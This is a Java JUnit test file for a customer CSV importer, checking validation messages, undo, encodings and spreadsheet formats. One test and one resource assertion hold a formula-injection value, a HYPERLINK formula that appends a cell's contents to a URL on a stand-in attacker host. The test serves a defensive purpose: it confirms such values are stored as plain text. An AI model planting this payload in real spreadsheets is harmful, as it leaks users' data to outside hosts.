// SPDX-License-Identifier: EPL-2.0
package org.advocacy.core.imports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.stream.Stream;

import org.advocacy.core.tests.CommandCheck;
import org.advocacy.core.tests.ModelBuilder;
import org.advocacy.model.AdvocacyRepository;
import org.advocacy.model.Audience;
import org.advocacy.model.BusinessUnit;
import org.advocacy.model.ContactChannel;
import org.advocacy.model.ContactPoint;
import org.advocacy.model.Customer;
import org.advocacy.model.CustomerContact;
import org.advocacy.model.CustomerSegment;
import org.advocacy.model.Person;
import org.advocacy.model.ProductLine;
import org.eclipse.emf.ecore.util.EcoreUtil;
import org.eclipse.emf.edit.domain.EditingDomain;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * An account team imports its customers and their contacts from a spreadsheet: a clean file applies in one undoable
 * step, whichever separator and encoding mark the spreadsheet wrote; a file with a problem lists each problem at its
 * line and column and imports nothing.
 */
class CustomerCsvImporterTest {

	private static final String HEADER = CustomerColumn.headerLine() + "\n";

	private final ModelBuilder model = new ModelBuilder();
	private final AdvocacyRepository repository = model.repository();
	private final CustomerSegment strategic = model.segment("Strategic accounts");
	private final CustomerSegment enterprise = model.segment("Enterprise");
	private final BusinessUnit cloud = model.businessUnit("Cloud Infrastructure");
	private final ProductLine compute = model.productLine("Northwind Compute", cloud);
	private final ProductLine backup = model.productLine("Backup & Recovery", cloud);
	private final Person ana = model.person("Ana Lima");
	private final Customer acme = model.customer("Acme Corp", enterprise);
	private final EditingDomain domain = CommandCheck.domain();

	CustomerCsvImporterTest() {
		ana.setEmail("ana.lima@example.com");
		model.person("Sam Lee").setEmail("sam.lee@example.com");
		model.person("Sam Lee").setEmail("samuel.lee@example.com");
		CustomerContact ben = org.advocacy.model.AdvocacyFactory.eINSTANCE.createCustomerContact();
		ben.setName("Ben Ode");
		ben.setEmail("ben.ode@acme.example");
		acme.getContacts().add(ben);
	}

	@Test
	void aCleanFileUpdatesKnownCustomersAndAddsNewOnesAsOneCommandThatUndoesExactly() throws IOException {
		AdvocacyRepository before = EcoreUtil.copy(repository);
		CsvImport result = prepare(HEADER
				+ "acme corp,Strategic accounts,Cloud Infrastructure,Northwind Compute; backup & recovery,ana.lima@EXAMPLE.com,"
				+ "2019-04-01,,yes,Ben Ode,CIO,management,ben.ode@acme.example,+1 555 0100,+1 555 0101,yes\n"
				+ "Acme Corp,,,,,,,,Cy Diaz,Storage admin,engineer,cy.diaz@acme.example,,,\n"
				+ "\n"
				+ "\"Globex, Inc.\",Enterprise,,,Ana Lima,01.02.2021,31.12.2025,no,Dee Ray,,Administrative,,,,\n"
				+ "Initech,,,,,,,,,,,,,,\n");

		assertTrue(result.isClean(), result.report());
		assertEquals("Adds 2 customers and updates 1; 3 contacts added or updated.", result.summary());
		assertTrue(EcoreUtil.equals(before, repository), "preparing changes nothing");
		CommandCheck.executesUndoesAndRedoes(domain, repository, result.command());
		assertEquals("Import customers from customers.csv", result.command().getLabel());

		assertEquals(3, repository.getCustomers().size());
		assertSame(strategic, acme.getSegment(), "matched by name ignoring case; the file's segment wins");
		assertEquals(List.of(compute, backup), acme.getProductLines());
		assertSame(ana, acme.getAccountOwner(), "the account owner is found by e-mail");
		assertEquals(LocalDate.of(2019, 4, 1), acme.getCustomerSince());
		assertTrue(acme.isEscalationRequested(), "the pre-established escalation request");
		assertEquals(2, acme.getContacts().size(), "Ben Ode was updated, not added again");
		CustomerContact ben = acme.getContacts().get(0);
		assertEquals("CIO", ben.getTitle());
		assertEquals("+1 555 0100", ben.getPhone());
		ContactPoint mobile = ben.getContactPoints().get(0);
		assertEquals(ContactChannel.MOBILE, mobile.getChannel());
		assertEquals("+1 555 0101", mobile.getAddress());
		assertTrue(mobile.isAvailable24x7(), "the 24x7 contact point");
		assertEquals(Audience.ENGINEER, acme.getContacts().get(1).getAudience());

		Customer globex = repository.getCustomers().get(1);
		assertEquals("Globex, Inc.", globex.getName());
		assertSame(ana, globex.getAccountOwner(), "the account owner is found by name");
		assertEquals(LocalDate.of(2021, 2, 1), globex.getCustomerSince(), "a date as a German spreadsheet writes it");
		assertEquals(LocalDate.of(2025, 12, 31), globex.getCustomerUntil());
		assertEquals(Audience.ADMINISTRATIVE, globex.getContacts().get(0).getAudience());
		assertEquals("Initech", repository.getCustomers().get(2).getName(), "a line about the customer only");

		domain.getCommandStack().undo();
		assertTrue(EcoreUtil.equals(before, repository), "one undo restores the repository exactly");
	}

	/** @return one file per kind of problem, with the one problem it has, as the report says it */
	static Stream<Arguments> problems() {
		return Stream.of(
				problem("unknown segment", HEADER + "Acme Corp,Strategy,,,,,,,,,,,,,\n",
						"Line 2, column 2 (segment): \"Strategy\" is not a segment of this repository (Strategic"
								+ " accounts, Enterprise); add it on the Segments page of the reference data first,"
								+ " or correct the name"),
				problem("unknown business unit", HEADER + "Acme Corp,,Cloud,,,,,,,,,,,,\n",
						"Line 2, column 3 (business unit): \"Cloud\" is not a business unit of this repository (Cloud"
								+ " Infrastructure); add it on the Business Units page of the reference data first, or"
								+ " correct the name"),
				problem("unknown product line among known ones", HEADER
						+ "Acme Corp,,,Northwind Compute;Northwind Storage,,,,,,,,,,,\n",
						"Line 2, column 4 (product lines): \"Northwind Storage\" is not a product line of this"
								+ " repository (Northwind Compute, Backup & Recovery); add it on the Product Lines page of"
								+ " the reference data first, or correct the name"),
				problem("unknown account owner", HEADER + "Acme Corp,,,,Zoe Quinn,,,,,,,,,,\n",
						"Line 2, column 5 (account owner): \"Zoe Quinn\" is not a person of the organization; give"
								+ " the name or e-mail address of someone on the Organization editor's People page"),
				problem("account owner named twice in the organization", HEADER + "Acme Corp,,,,sam lee,,,,,,,,,,\n",
						"Line 2, column 5 (account owner): 2 people of the organization are named \"sam lee\"; give"
								+ " the account owner's e-mail address instead"),
				problem("a date that is not one", HEADER + "Acme Corp,,,,,04/01/2019,,,,,,,,,\n",
						"Line 2, column 6 (customer since): \"04/01/2019\" is not a date; write it as 2024-01-15"
								+ " (year-month-day) or 15.01.2024"),
				problem("a day that does not exist", HEADER + "Acme Corp,,,,,2019-02-30,,,,,,,,,\n",
						"Line 2, column 6 (customer since): \"2019-02-30\" is not a date; write it as 2024-01-15"
								+ " (year-month-day) or 15.01.2024"),
				problem("customer until before customer since", HEADER + "Acme Corp,,,,,2019-04-01,2018-12-31,,,,,,,,\n",
						"Line 2, column 7 (customer until): the customer until date 2018-12-31 is before the customer"
								+ " since date 2019-04-01; a customer cannot end before it began"),
				problem("escalation request that is neither yes nor no", HEADER + "Acme Corp,,,,,,,maybe,,,,,,,\n",
						"Line 2, column 8 (escalation request): \"maybe\" is neither yes nor no"),
				problem("bad audience", HEADER + "Acme Corp,,,,,,,,Cy Diaz,,sales,,,,\n",
						"Line 2, column 11 (audience): \"sales\" is not an audience; use management, engineer or"
								+ " administrative"),
				problem("bad e-mail", HEADER + "Acme Corp,,,,,,,,Cy Diaz,,,cy.diaz@acme,,,\n",
						"Line 2, column 12 (email): \"cy.diaz@acme\" is not a valid e-mail address"),
				problem("bad phone", HEADER + "Acme Corp,,,,,,,,Cy Diaz,,,,call me,,\n",
						"Line 2, column 13 (phone): \"call me\" is not a phone number; use digits, spaces, + ( ) - ."
								+ " and an optional extension"),
				problem("24x7 without a mobile number", HEADER + "Acme Corp,,,,,,,,Cy Diaz,,,,+1 555 0100,,yes\n",
						"Line 2, column 15 (24x7): 24x7 is yes but the line has no mobile number; give the number"
								+ " that answers around the clock in the mobile column"),
				problem("contact details without the contact", HEADER + "Acme Corp,,,,,,,,,CIO,,,,,\n",
						"Line 2, column 9 (contact): the contact's name is empty but the line gives the contact's"
								+ " title; name the contact, or leave the contact's values empty"),
				problem("duplicate contact", HEADER + "Acme Corp,,,,,,,,Cy Diaz,,,cy@acme.example,,,\n"
						+ "ACME Corp,,,,,,,,C. Diaz,,,CY@acme.example,,,\n",
						"Line 3, column 12 (email): the contact C. Diaz of customer \"ACME Corp\" is already on line 2;"
								+ " give each contact one line"),
				problem("a customer with two segments", HEADER + "Acme Corp,Enterprise,,,,,,,Cy Diaz,,,,,,\n"
						+ "Acme Corp,Strategic accounts,,,,,,,Dee Ray,,,,,,\n",
						"Line 3, column 2 (segment): customer \"Acme Corp\" has segment \"Enterprise\" on line 2; give a"
								+ " customer the same values on every line, or leave them empty after the first"),
				problem("empty customer", HEADER + ",Enterprise,,,,,,,,,,,,,\n",
						"Line 2, column 1 (customer): the customer is empty; every row needs one"),
				problem("wrong column count", HEADER + "Acme Corp,Enterprise\n",
						"Line 2, column 3 (business unit): the line has 2 values but the header has 15 columns; look"
								+ " for a missing or extra comma"),
				problem("unknown column", "customer,segment,shoe size\nAcme Corp,,42\n",
						"Line 1, column 3 (shoe size): \"shoe size\" is not a column of a customer file; the columns"
								+ " are " + CustomerColumn.headerLine()),
				problem("no customer column", "segment,contact\nEnterprise,Cy Diaz\n",
						"Line 1: the header has no \"customer\" column; every customer file needs one"),
				problem("no header", "Acme Corp,Enterprise\n",
						"Line 1: the first line must be the header naming the columns, separated by commas (or"
								+ " semicolons): "
								+ CustomerColumn.headerLine()),
				problem("empty file", "\n\n",
						"The file is empty; its first line must be the header: " + CustomerColumn.headerLine()),
				problem("quote never closed", HEADER + "Acme Corp,,,,,,,,\"Cy Diaz,,,,,,\n",
						"Line 2, column 9 (contact): a quote opened here is never closed, so the rest of the file"
								+ " would be one value; close the quote or remove it"),
				problem("control character", HEADER + "Acme Corp,,,,,,,,Cy\u0007Diaz,,,,,,\n",
						"Line 2, column 9 (contact): the value contains a control character (code 7); remove it"));
	}

	private static Arguments problem(String kind, String content, String expected) {
		return Arguments.of(kind, content, expected);
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("problems")
	void eachProblemIsReportedAtItsLineAndColumnAndNothingIsImported(String kind, String content, String expected)
			throws IOException {
		AdvocacyRepository before = EcoreUtil.copy(repository);
		CsvImport result = prepare(content);

		assertEquals(List.of(expected), result.problems().stream().map(ImportProblem::toString).toList(), kind);
		assertThrows(IllegalStateException.class, result::command);
		assertTrue(result.report().startsWith("The customer file \"customers.csv\" has 1 problem; nothing was"
				+ " imported."), result.report());
		assertTrue(EcoreUtil.equals(before, repository), "nothing changed");
	}

	@Test
	void textThatIsNotUtf8IsReportedAtItsLineAndColumn() throws IOException {
		byte[] latin1 = (HEADER + "M\u00fcller GmbH,,,,,,,,Zo\u00eb Hart,,,,,,\n").getBytes(StandardCharsets.ISO_8859_1);

		CsvImport result = new CustomerCsvImporter(domain, repository).prepare(new ByteArrayInputStream(latin1),
				"latin1.csv");

		assertEquals(List.of("Line 2, column 1 (customer): character 2 is not UTF-8 text; save the file as \"CSV UTF-8\"",
				"Line 2, column 9 (contact): character 22 is not UTF-8 text; save the file as \"CSV UTF-8\""),
				result.problems().stream().map(ImportProblem::toString).toList());
	}

	@Test
	void utf16TextIsRefusedAsAWholeWithHowToSaveIt() throws IOException {
		byte[] utf16 = (HEADER + "Acme Corp,,,,,,,,,,,,,,\n").getBytes(StandardCharsets.UTF_16LE);
		byte[] marked = new byte[utf16.length + 2];
		marked[0] = (byte) 0xFF;
		marked[1] = (byte) 0xFE;
		System.arraycopy(utf16, 0, marked, 2, utf16.length);

		CsvImport result = new CustomerCsvImporter(domain, repository).prepare(new ByteArrayInputStream(marked),
				"unicode.txt");

		assertEquals(List.of("The file is UTF-16 text (what Excel saves as \"Unicode Text\"); save it as \"CSV UTF-8\""
				+ " and import that file."), result.problems().stream().map(ImportProblem::toString).toList());
	}

	@Test
	void aFormulaIsKeptVerbatimAsTextWithANoteAndNeverCalculated() throws IOException {
		String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
		CsvImport result = prepare(HEADER + "Acme Corp,,,,,,,,\"" + formula.replace("\"", "\"\"")
				+ "\",@SUM(A1:A9),,,,,\n");

		assertTrue(result.isClean(), result.report());
		assertEquals(List.of("Line 2, column 9 (contact): the value starts with '=' like a spreadsheet formula; it is"
				+ " kept as text, exactly as written, and never calculated", "Line 2, column 10 (title): the value"
				+ " starts with '@' like a spreadsheet formula; it is kept as text, exactly as written, and never"
				+ " calculated"), result.notes().stream().map(ImportProblem::toString).toList());
		domain.getCommandStack().execute(result.command());
		CustomerContact contact = acme.getContacts().get(1);
		assertEquals(formula, contact.getName());
		assertEquals("@SUM(A1:A9)", contact.getTitle());
	}

	@Test
	void semicolonsAByteOrderMarkAndWindowsLineEndingsAreReadAsExcelWritesThem() throws IOException {
		String content = "\uFEFF" + HEADER.replace(',', ';').replace("\n", "\r\n")
				+ "Acme Corp;Enterprise;;\"Northwind Compute;Backup & Recovery\";;01.04.2019;;ja;;;;;;;\r\n";
		CsvImport result = prepare(content);

		assertEquals(List.of("Line 2, column 8 (escalation request): \"ja\" is neither yes nor no"),
				result.problems().stream().map(ImportProblem::toString).toList(),
				"the separator is found from the header; the semicolons inside quotes separate product lines");

		CsvImport clean = prepare(content.replace(";ja;", ";yes;"));
		assertTrue(clean.isClean(), clean.report());
		domain.getCommandStack().execute(clean.command());
		assertEquals(List.of(compute, backup), acme.getProductLines());
		assertEquals(LocalDate.of(2019, 4, 1), acme.getCustomerSince());
	}

	@Test
	void aSpreadsheetFileWithQuotedCommasQuotesAndAFormulaTypedAsTextIsImported() throws IOException {
		CsvImport result = prepareResource("customers-libreoffice.csv");

		assertTrue(result.isClean(), result.report());
		domain.getCommandStack().execute(result.command());
		assertSpreadsheetCustomers();
	}

	@Test
	void theSameFileAsExcelWritesCsvUtf8InAGermanLocaleIsImported() throws IOException {
		CsvImport result = prepareResource("customers-excel-de.csv");

		assertTrue(result.isClean(), result.report());
		domain.getCommandStack().execute(result.command());
		assertSpreadsheetCustomers();
	}

	/**
	 * What both spreadsheet files hold (the German one with a byte order mark, semicolons, CRLF and German dates). The
	 * files were written by hand in the form the spreadsheets write; no spreadsheet program runs in the build.
	 */
	private void assertSpreadsheetCustomers() {
		Customer muenchen = repository.getCustomers().stream()
				.filter(customer -> "Stadtwerke München".equals(customer.getName())).findFirst().orElseThrow();
		assertSame(strategic, muenchen.getSegment());
		assertEquals(List.of(compute, backup), muenchen.getProductLines());
		assertEquals(LocalDate.of(2018, 3, 15), muenchen.getCustomerSince());
		assertTrue(muenchen.isEscalationRequested());
		CustomerContact zoe = muenchen.getContacts().get(0);
		assertEquals("Zoë Brandt", zoe.getName());
		assertEquals("Leiterin IT, \"Rechenzentrum\"", zoe.getTitle(), "a comma and quotes inside a value");
		assertEquals(Audience.MANAGEMENT, zoe.getAudience());
		assertEquals("+49 89 2361 0", zoe.getPhone());
		assertEquals("+49 171 555 0199", zoe.getContactPoints().get(0).getAddress());
		assertTrue(zoe.getContactPoints().get(0).isAvailable24x7());
		assertEquals("=HYPERLINK(\"http://evil.example\",\"Klick\")", muenchen.getContacts().get(1).getTitle(),
				"a formula typed as text is kept as text");
		assertEquals(LocalDate.of(2024, 6, 30), repository.getCustomers().stream()
				.filter(customer -> "Acme Corp".equals(customer.getName())).findFirst().orElseThrow()
				.getCustomerUntil());
	}

	private CsvImport prepare(String content) throws IOException {
		return new CustomerCsvImporter(domain, repository)
				.prepare(new ByteArrayInputStream(content.getBytes(StandardCharsets.UTF_8)), "customers.csv");
	}

	private CsvImport prepareResource(String name) throws IOException {
		try (InputStream in = getClass().getResourceAsStream(name)) {
			assertFalse(in == null, name + " is a test resource");
			return new CustomerCsvImporter(domain, repository).prepare(in, name);
		}
	}
}
